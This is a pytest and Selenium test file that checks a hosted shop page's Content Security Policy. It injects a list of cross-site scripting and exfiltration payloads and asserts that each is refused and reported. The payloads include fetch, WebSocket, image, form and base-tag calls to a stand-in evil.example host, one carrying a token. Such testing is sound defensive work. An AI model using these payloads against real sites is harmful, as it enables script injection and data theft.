"""The shop page with the headers of its hosting: it works, and what they forbid is refused."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from selenium import webdriver
from selenium.webdriver.support.ui import WebDriverWait

from operations.hosted_page import page_config, page_files
from operations.write_page import write_page
from tests.support.chromium import chromium, outcome_of, place_order, run_before_load, sign_in
from tests.support.folder_server import hosted
from tests.support.repository import REPO_ROOT
from tools.chromium import SECONDS

pytestmark = pytest.mark.xdist_group("pages")

# From before the page's first script.
WATCH_VIOLATIONS = """
window.violations = [];
addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""
INJECTED = "<script>window.ran = true;</script>"
TRUSTED_TYPES = "require-trusted-types-for trusted-types-sink"
# What somebody could try who got a word into the page, and what is reported of it.
ATTACKS = (
    (
        "const one = document.createElement('script'); document.head.append(one);"
        "one.text = 'window.ran = true';",
        TRUSTED_TYPES,
    ),
    (
        "const one = document.createElement('script'); document.head.append(one);"
        "one.src = 'https://evil.example/x.js';",
        TRUSTED_TYPES,
    ),
    ("document.body.innerHTML = '<img src=x onerror=ran=true>';", TRUSTED_TYPES),
    ("setTimeout('window.ran = true');", TRUSTED_TYPES),
    (
        "fetch('https://evil.example/?token=x').catch(() => {});",
        "connect-src https://evil.example/?token=x",
    ),
    (
        "new WebSocket('wss://evil.example/');",
        "connect-src wss://evil.example/",
    ),
    (
        "new Image().src = 'https://evil.example/x.png';",
        "img-src https://evil.example/x.png",
    ),
    (
        "const form = document.createElement('form'); form.action = 'https://evil.example/form';"
        "document.body.append(form); form.submit();",
        "form-action https://evil.example/form?",
    ),
    (
        "const base = document.createElement('base'); base.href = 'https://evil.example/base';"
        "document.head.append(base);",
        "base-uri https://evil.example/base",
    ),
)


def by_both(*reports: str) -> Counter[str]:
    """The header reports each, and so does the page's own policy."""
    return Counter([*reports, *reports])


@pytest.fixture
def browser(stage: Any, tmp_path: Path) -> Iterator[webdriver.Chrome]:
    """It finds the page as ``make page`` writes it where the local stage serves its own."""
    config = page_config(stage.outputs)
    headers = write_page(page_files(REPO_ROOT), config, tmp_path / "page")
    with (tmp_path / "page" / "index.html").open("a") as page:
        page.write(INJECTED)
    with hosted(tmp_path / "page", headers) as port:
        own = urlsplit(stage.outputs["storefront_url"]).netloc
        with chromium([f"--host-resolver-rules=MAP {own} 127.0.0.1:{port}"]) as driver:
            run_before_load(driver, WATCH_VIOLATIONS)
            yield driver


def violations(browser: webdriver.Chrome) -> list[str]:
    found: list[str] = browser.execute_script("return window.violations")
    return found


def console(browser: webdriver.Chrome) -> list[str]:
    """What was refused since the last look."""
    log: Any = browser.get_log("browser")  # type: ignore[no-untyped-call]  # as Selenium has it
    return [entry["message"] for entry in log if entry["source"] == "security"]


def reported(browser: webdriver.Chrome, number: int) -> Counter[str]:
    """The violations, once there are so many."""
    WebDriverWait(browser, SECONDS).until(
        lambda _: len(violations(browser)) >= number,
        f"{number} violations were never reported: {violations(browser)}",
    )
    return Counter(violations(browser))


def test_a_hosted_page_sells_under_its_policy_and_what_that_forbids_is_refused(
    browser: webdriver.Chrome, stage: Any, tmp_path: Path
) -> None:
    sign_in(browser, stage)
    outcome_of(browser, place_order(browser, "mug-02"), "FINALIZED")
    assert Counter(violations(browser)) == by_both("script-src-elem inline")

    browser.execute_script("window.violations = []")
    for script, _ in ATTACKS:
        browser.execute_script(f"try {{ {script} }} catch {{}}")
    expected = by_both(*(report for _, report in ATTACKS))
    assert reported(browser, expected.total()) == expected
    assert browser.execute_script("return window.ran") is None

    (tmp_path / "index.html").write_text(f"<iframe src='{stage.outputs['storefront_url']}'>")
    with hosted(tmp_path, {}) as port:
        browser.get(f"http://127.0.0.1:{port}/")
        said: list[str] = []

        def refused(_: webdriver.Chrome) -> bool:
            said.extend(console(browser))
            return any("frame-ancestors 'none'" in one for one in said)

        WebDriverWait(browser, SECONDS).until(refused, "nobody said that it may not be framed")
